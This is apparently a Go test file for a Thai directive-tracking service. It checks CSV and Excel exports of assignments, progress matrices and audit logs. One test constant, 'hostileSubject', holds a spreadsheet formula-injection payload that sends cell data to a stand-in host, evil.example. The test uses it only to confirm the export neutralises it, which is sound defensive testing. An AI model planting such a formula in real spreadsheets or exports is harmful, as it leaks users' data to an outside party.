package api_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"html"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"gorm.io/gorm"

	"github.com/tidtam/tidtam/internal/csvout"
	"github.com/tidtam/tidtam/internal/store/storetest"
	"github.com/tidtam/tidtam/internal/thaidate"
	"github.com/tidtam/tidtam/models"
)

// hostileSubject is a subject a spreadsheet would run as a formula.
const hostileSubject = `=HYPERLINK("http://evil.example/?x="&A1,"คลิก")`

// seedExportDirective writes a directive of two items with a hostile
// subject straight into the read model, assigned to every province and
// district unit (more than one export batch): item 1 due 17 Dec 2567
// 16:30, item 2 without a due. It returns the number of assignments.
func seedExportDirective(t *testing.T, db *gorm.DB, id string) int {
	t.Helper()
	now := time.Date(2024, 12, 10, 9, 0, 0, 0, thaidate.Bangkok)
	due := time.Date(2024, 12, 17, 16, 30, 0, 0, thaidate.Bangkok)
	var units []models.Unit
	if err := db.Where("type IN ?", []models.UnitType{models.UnitProvince, models.UnitDistrict}).Order("code").Find(&units).Error; err != nil {
		t.Fatal(err)
	}
	err := db.Transaction(func(tx *gorm.DB) error {
		if err := tx.Create(&models.Directive{ID: id, Source: "ministry", IssuerCode: "MOI", DocNumber: "ที่ มท ๐๓๑๑.๓/ว " + id,
			DocNumberNorm: id, IssueDate: "2024-12-10", Urgency: "ด่วนที่สุด", Subject: hostileSubject, Status: models.DirectiveStatus("active"),
			UnitsTotal: len(units), UnitsAssigned: len(units), CreatedBy: "sec", CreatedAt: now, UpdatedAt: now}).Error; err != nil {
			return err
		}
		for _, n := range []int{1, 2} {
			if err := tx.Create(&models.DirectiveItem{DirectiveID: id, Number: n, Text: fmt.Sprintf("ข้อที่ %d", n), Target: "{}"}).Error; err != nil {
				return err
			}
		}
		region := map[string]int{}
		for _, u := range units {
			if u.InspectionRegion != nil {
				region[u.Code] = *u.InspectionRegion
			}
		}
		var as []models.Assignment
		var items []models.AssignmentItem
		for _, u := range units {
			aid := "assignment/" + id + "/" + u.Code
			parent, reg := "", region[u.Code]
			if u.ParentCode != nil {
				parent, reg = *u.ParentCode, region[*u.ParentCode]
			}
			as = append(as, models.Assignment{ID: aid, DirectiveID: id, UnitCode: u.Code, ParentCode: parent, Region: reg,
				Status: models.AssignmentAssigned, AckDueAt: due, CreatedAt: now, UpdatedAt: now})
			items = append(items, models.AssignmentItem{AssignmentID: aid, ItemNumber: 1, Cycle: 1, Status: models.ItemOpen, DueAt: &due, UpdatedAt: now},
				models.AssignmentItem{AssignmentID: aid, ItemNumber: 2, Cycle: 1, Status: models.ItemOpen, UpdatedAt: now})
		}
		if err := tx.CreateInBatches(as, 200).Error; err != nil {
			return err
		}
		return tx.CreateInBatches(items, 200).Error
	})
	if err != nil {
		t.Fatal(err)
	}
	return len(units)
}

// readXLSX opens an xlsx answer and returns its first sheet's rows,
// checking the frozen header row.
func readXLSX(t *testing.T, raw []byte) [][]string {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(raw))
	if err != nil {
		t.Fatalf("not an xlsx file: %v", err)
	}
	defer f.Close()
	sheet := f.GetSheetName(0)
	if p, err := f.GetPanes(sheet); err != nil || !p.Freeze || p.YSplit != 1 {
		t.Errorf("header row not frozen: %+v %v", p, err)
	}
	if w, err := f.GetColWidth(sheet, "A"); err != nil || w < 10 {
		t.Errorf("width of A = %v %v", w, err)
	}
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func readCSV(t *testing.T, raw []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(raw, []byte(csvout.BOM)) {
		t.Fatalf("no byte-order mark: %.60q", raw)
	}
	rows, err := csv.NewReader(bytes.NewReader(raw[len(csvout.BOM):])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func col(t *testing.T, header []string, name string) int {
	t.Helper()
	for i, h := range header {
		if h == name {
			return i
		}
	}
	t.Fatalf("no column %q in %q", name, header)
	return -1
}

// TestExports: the matrix and the assignments list as CSV and xlsx (Thai
// header, BE dates beside ISO ones, the hostile subject neutralised in CSV
// and a text cell in xlsx, every row across several read batches), a
// province exporting only its own units, and the audit export as xlsx.
func TestExports(t *testing.T) {
	storetest.EachDB(t, func(t *testing.T, db *gorm.DB) {
		h := newHarness(t, db)
		n := seedExportDirective(t, db, "EXP-1")
		sec, prov := h.login("sec", "secretariat-pass"), h.login("chonburi", "province-pass-1")
		var chonburi int64
		db.Model(&models.Unit{}).Where("code = ? OR parent_code = ?", "20", "20").Count(&chonburi)

		// The assignments list as CSV: one row per item, every assignment.
		res, hdr := h.send("GET", "/api/v1/assignments?directive=EXP-1&format=csv&limit=5", sec, nil, nil)
		if res.Status != 200 || hdr.Get("Content-Type") != "text/csv; charset=utf-8" ||
			!strings.Contains(hdr.Get("Content-Disposition"), "filename=tidtam-assignments-EXP-1.csv") {
			t.Fatalf("csv = %d %v %.300s", res.Status, hdr, res.Raw)
		}
		rows := readCSV(t, res.Raw)
		if len(rows) != 1+2*n {
			t.Fatalf("%d rows, want header + %d", len(rows), 2*n)
		}
		head := rows[0]
		subj, due, dueBE, unit := col(t, head, "เรื่อง"), col(t, head, "วันครบกำหนด"), col(t, head, "วันครบกำหนด (พ.ศ.)"), col(t, head, "รหัสหน่วยงาน")
		if dueBE != due+1 {
			t.Errorf("BE column not beside the ISO one: %q", head)
		}
		if rows[1][subj] != "'"+hostileSubject || rows[1][due] != "2024-12-17T16:30:00+07:00" || rows[1][dueBE] != "17 ธ.ค. 2567 16:30" {
			t.Errorf("row 1 = %q", rows[1])
		}
		if rows[2][due] != "" || rows[2][dueBE] != "" {
			t.Errorf("item 2 has a due: %q", rows[2])
		}
		seen := map[string]int{}
		for _, r := range rows[1:] {
			seen[r[unit]]++
		}
		if len(seen) != n {
			t.Errorf("%d units exported, want %d", len(seen), n)
		}

		// A province exports its centre and its districts only, as xlsx.
		res, hdr = h.send("GET", "/api/v1/assignments?format=xlsx", prov, nil, nil)
		if res.Status != 200 || !strings.Contains(hdr.Get("Content-Type"), "spreadsheetml") {
			t.Fatalf("xlsx = %d %v %.300s", res.Status, hdr, res.Raw)
		}
		rows = readXLSX(t, res.Raw)
		if len(rows) != 1+2*int(chonburi) {
			t.Fatalf("province export: %d rows, want header + %d", len(rows), 2*chonburi)
		}
		unit, subj, dueBE = col(t, rows[0], "รหัสหน่วยงาน"), col(t, rows[0], "เรื่อง"), col(t, rows[0], "วันครบกำหนด (พ.ศ.)")
		for _, r := range rows[1:] {
			if r[unit] != "20" && !strings.HasPrefix(r[unit], "20") {
				t.Fatalf("province exports unit %s", r[unit])
			}
		}
		if rows[1][subj] != hostileSubject || rows[1][dueBE] != "17 ธ.ค. 2567 16:30" {
			t.Errorf("xlsx row 1 = %q", rows[1])
		}

		// The matrix: a row per unit, each item's state and due (BE beside).
		res, hdr = h.send("GET", "/api/v1/directives/EXP-1/matrix?format=xlsx&region=8", sec, nil, nil)
		if res.Status != 200 || !strings.Contains(hdr.Get("Content-Disposition"), "tidtam-matrix-EXP-1.xlsx") {
			t.Fatalf("matrix xlsx = %d %v %.300s", res.Status, hdr, res.Raw)
		}
		rows = readXLSX(t, res.Raw)
		var region8 int64
		db.Model(&models.Assignment{}).Where("directive_id = ? AND region = 8", "EXP-1").Count(&region8)
		if len(rows) != 1+int(region8) || strings.Join(rows[0][:2], "|") != "รหัสหน่วยงาน|หน่วยงาน" {
			t.Fatalf("matrix: %d rows (want %d), header %q", len(rows), 1+region8, rows[0])
		}
		s1, d1 := col(t, rows[0], "ข้อ 1 สถานะ"), col(t, rows[0], "ข้อ 1 ครบกำหนด (พ.ศ.)")
		if rows[1][s1] != "รอรายงาน" || rows[1][d1] != "17 ธ.ค. 2567 16:30" {
			t.Errorf("matrix row 1 = %q", rows[1])
		}
		res, _ = h.send("GET", "/api/v1/directives/EXP-1/matrix?format=csv", prov, nil, nil)
		if rows := readCSV(t, res.Raw); res.Status != 200 || len(rows) != 1+int(chonburi) {
			t.Fatalf("province matrix: %d, %d rows, want %d", res.Status, len(rows), 1+chonburi)
		}
		// JSON stays the default.
		if res := h.do("GET", "/api/v1/directives/EXP-1/matrix?format=json&province=20", sec, nil); res.Status != 200 || len(res.Body["rows"].([]any)) != int(chonburi) {
			t.Fatalf("matrix json: %d %.200s", res.Status, res.Raw)
		}
		errorOf(t, h.do("GET", "/api/v1/assignments?format=pdf", sec, nil), 422, "invalid", "format")
		errorOf(t, h.do("GET", "/api/v1/directives/EXP-1/matrix?format=pdf", sec, nil), 422, "invalid", "format")
		errorOf(t, h.do("GET", "/api/v1/assignments?format=csv&status=late", sec, nil), 422, "invalid", "status")
		errorOf(t, h.do("GET", "/api/v1/directives/NOPE/matrix?format=xlsx", sec, nil), 404, "not_found", "")
		errorOf(t, h.do("GET", "/api/v1/assignments?format=xlsx", "", nil), 401, "unauthorized", "")

		// The audit export as xlsx: the CSV's Thai header, the BE time last.
		res, hdr = h.send("GET", "/api/v1/audit/export?format=xlsx", h.login("admin", adminPassword), nil, nil)
		if res.Status != 200 || !strings.Contains(hdr.Get("Content-Disposition"), "filename=tidtam-audit.xlsx") {
			t.Fatalf("audit xlsx = %d %v %.300s", res.Status, hdr, res.Raw)
		}
		rows = readXLSX(t, res.Raw)
		if len(rows) < 2 || rows[0][0] != "รหัส" || rows[0][1] != "เวลา (เวลาประเทศไทย)" || rows[0][11] != "เวลา (พ.ศ.)" {
			t.Fatalf("audit xlsx header %q, %d rows", rows[0], len(rows))
		}
	})
}

// TestWebExports: the directive page's matrix, "my work" and the audit
// page offer Excel and CSV downloads, which the browser's session fetches
// with the page's filters and scope.
func TestWebExports(t *testing.T) {
	db := storetest.SQLite(t)
	h := newHarness(t, db)
	seedExportDirective(t, db, "EXP-1")
	link := regexp.MustCompile(`id="(?:matrix|work)-(?:xlsx|csv)"|href="([^"]*format=(?:xlsx|csv)[^"]*)"`)
	hrefs := func(body string) []string {
		var out []string
		for _, m := range link.FindAllStringSubmatch(body, -1) {
			if m[1] != "" {
				out = append(out, html.UnescapeString(m[1]))
			}
		}
		return out
	}

	sec := webSignIn(h, "sec", "secretariat-pass")
	status, _, body := sec.send("GET", "/directives/EXP-1?region=8", nil)
	got := hrefs(body)
	if status != 200 || !strings.Contains(body, `id="matrix-xlsx"`) || len(got) != 2 || got[0] != "/directives/EXP-1?format=xlsx&region=8" {
		t.Fatalf("directive page: %d, links %q", status, got)
	}
	status, _, file := sec.send("GET", got[0], nil)
	var region8 int64
	db.Model(&models.Assignment{}).Where("region = 8").Count(&region8)
	if rows := readXLSX(t, []byte(file)); status != 200 || len(rows) != 1+int(region8) || rows[0][0] != "รหัสหน่วยงาน" {
		t.Fatalf("matrix download: %d, %d rows", status, len(rows))
	}

	prov := webSignIn(h, "chonburi", "province-pass-1")
	status, _, body = prov.send("GET", "/assignments?directive=EXP-1", nil)
	got = hrefs(body)
	if status != 200 || len(got) != 2 || got[1] != "/assignments?directive=EXP-1&format=csv" {
		t.Fatalf("my work: %d, links %q", status, got)
	}
	status, _, file = prov.send("GET", got[1], nil)
	rows := readCSV(t, []byte(file))
	if status != 200 || len(rows) < 3 {
		t.Fatalf("work download: %d, %d rows", status, len(rows))
	}
	unit := col(t, rows[0], "รหัสหน่วยงาน")
	for _, r := range rows[1:] {
		if !strings.HasPrefix(r[unit], "20") {
			t.Fatalf("province downloads unit %s", r[unit])
		}
	}

	status, _, body = sec.send("GET", "/audit", nil)
	if status != 200 || !strings.Contains(body, `id="audit-export-xlsx"`) {
		t.Fatalf("audit page: %d, no xlsx export", status)
	}
	status, _, file = sec.send("GET", "/audit/export?format=xlsx", nil)
	if rows := readXLSX(t, []byte(file)); status != 200 || rows[0][0] != "รหัส" {
		t.Fatalf("audit download: %d %q", status, rows[0])
	}
	if status, _, _ := sec.send("GET", "/assignments?format=pdf", nil); status != 422 {
		t.Errorf("format=pdf: %d, want 422", status)
	}
}
